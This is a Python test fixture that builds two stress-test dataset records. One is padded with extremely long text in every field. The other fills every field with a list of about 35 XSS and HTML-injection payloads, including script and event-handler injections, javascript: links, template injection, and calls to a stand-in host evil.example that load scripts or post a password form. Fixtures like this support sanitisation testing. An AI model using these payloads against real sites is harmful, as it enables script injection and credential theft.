"""Records as dirty as records get: one that is long in every part, one that attacks with every part."""

_WORD = "Donaudampfschifffahrtsgesellschaft" * 6
_TABLE = (
    "| "
    + " | ".join(f"column_{n}" for n in range(20))
    + " |\n|"
    + "---|" * 20
    + "\n| "
    + " | ".join("1234567" for _ in range(20))
    + " |"
)
_TERMS = f"<div style='color:red'><h1>Terms</h1><p>{'You may not. ' * 200}</p><p>{_WORD}</p></div>"

LONG = {
    "dataset": "a_" + "very_" * 37 + "long_name",
    "metadata": {
        "title": f"Fahrplan {_WORD} " + "und alle Anschlüsse, " * 90,
        "subtitle": "Every departure of every line, " * 40 + _WORD,
        "source": _WORD,
        "license": _TERMS,
        "data_language": _WORD,
        "overview": "\n\n".join(
            [f"{'Words and words. ' * 60}", f"`{_WORD}`", _TABLE, f"```\n{_WORD * 3}\n```", "غابات العالم " * 50] * 4
        ),
        "citation": f"{_WORD} (2026). {'A. Author, ' * 80}",
        "cautions": f"Mind the gap. {_WORD}",
        "tags": [f"tag {n} {_WORD if n == 3 else ''}" for n in range(52)],
        "learn_more": f"https://data.example/{_WORD}",
    },
    "organization": f"Verkehrsverbund {_WORD} " + "der Gemeinden, " * 120,
    "created_on": "Mittwoch, 26. Juni 2013",
    "updated_on": "unregelmäßig, " * 20,
    "versions": [_WORD[:80], "2026-01", "1.0"],
    "assets": [
        {
            "asset_type": f"Kind {_WORD}",
            "asset_uri": f"https://data.example/{_WORD}?a={_WORD}",
            "format": f"application/{_WORD.lower()}",
            "fields": [
                {"name": f"{_WORD}_{n}", "data_type": _WORD, "description": "What it says. " * 30, "unit": _WORD[:60]}
                for n in range(3)
            ],
        },
        *({"asset_type": "csv", "asset_uri": f"s3://bucket/part-{n}", "format": "csv"} for n in range(60)),
    ],
    "provenance": {"source": "dirt", "path": "long.json", "native_id": "long"},
    "extra": {"words": _WORD},
}

# Each says where it got to by calling `pwn`, which would make a dialog, or by asking evil.example for something.
PAYLOADS = (
    "<script>alert('pwn')</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert('pwn')>",
    "<img src=https://evil.example/pixel.png>",
    "<svg onload=alert('pwn')>",
    "<svg><script>alert('pwn')</script></svg>",
    "<math><mtext><img src=x onerror=alert('pwn')></mtext></math>",
    "<iframe srcdoc=\"<script>alert('pwn')</script>\"></iframe>",
    "<iframe src=javascript:alert('pwn')></iframe>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x.swf>",
    "<a href=javascript:alert('pwn')>click</a>",
    "<a href=' javascript:alert(1)'>click</a>",
    "<a href=java&#x0A;script:alert('pwn')>click</a>",
    "<a href=\"data:text/html,<script>alert('pwn')</script>\">click</a>",
    "[click](javascript:alert('pwn'))",
    "[click](JaVaScRiPt:alert('pwn'))",
    "![x](https://evil.example/pixel.png \"onerror=alert('pwn')\")",
    "<javascript:alert('pwn')>",
    "<style>@import '//evil.example/x.css'; body { display: none }</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><input name=password><button>Sign in</button></form>",
    "<div style='background:url(//evil.example/x.png);position:fixed;inset:0'>over everything</div>",
    "<details open ontoggle=alert('pwn')>x</details>",
    "<input autofocus onfocus=alert('pwn')>",
    "<video><source onerror=alert('pwn')></video>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('pwn')>\">",
    "\"><img src=x onerror=alert('pwn')>",
    "' onmouseover='alert(1)' x='",
    "{{ 7 * 7 }}{% include 'base.html' %}${7*7}",
    "</title></textarea></script><script>alert('pwn')</script>",
    "<!--><script>alert('pwn')</script>-->",
    "&lt;script&gt;alert('pwn')&lt;/script&gt;",
)
_ALL = " ".join(PAYLOADS)
_LINES = "\n\n".join(PAYLOADS)

HOSTILE = {
    "dataset": "hostile_record",
    "metadata": {
        "title": f"Hostile {_ALL}",
        "subtitle": _ALL,
        "source": _LINES,
        "license": _LINES,
        "data_language": _ALL,
        "overview": _LINES,
        "citation": _LINES,
        "cautions": _LINES,
        "tags": [f"hostile {payload}"[:200] for payload in PAYLOADS],
        "learn_more": "javascript:alert('pwn')",
    },
    "organization": f"Hostile lab {_ALL}",
    "created_on": PAYLOADS[0],
    "updated_on": PAYLOADS[2],
    "versions": [PAYLOADS[2], "1.0 " + PAYLOADS[0]],
    "assets": [
        {
            "asset_type": payload,
            "asset_uri": "javascript:alert('pwn')" if number % 2 else f"https://data.example/{payload}",
            "format": payload[:60],
            "name": payload,
            "description": payload,
            "fields": [
                {
                    "name": payload,
                    "data_type": payload[:40],
                    "description": payload,
                    "alias": payload,
                    "unit": payload[:40],
                }
            ],
        }
        for number, payload in enumerate(PAYLOADS)
    ],
    "provenance": {"source": "dirt", "path": PAYLOADS[0], "native_id": "hostile"},
    "extra": {payload: payload for payload in PAYLOADS},
}
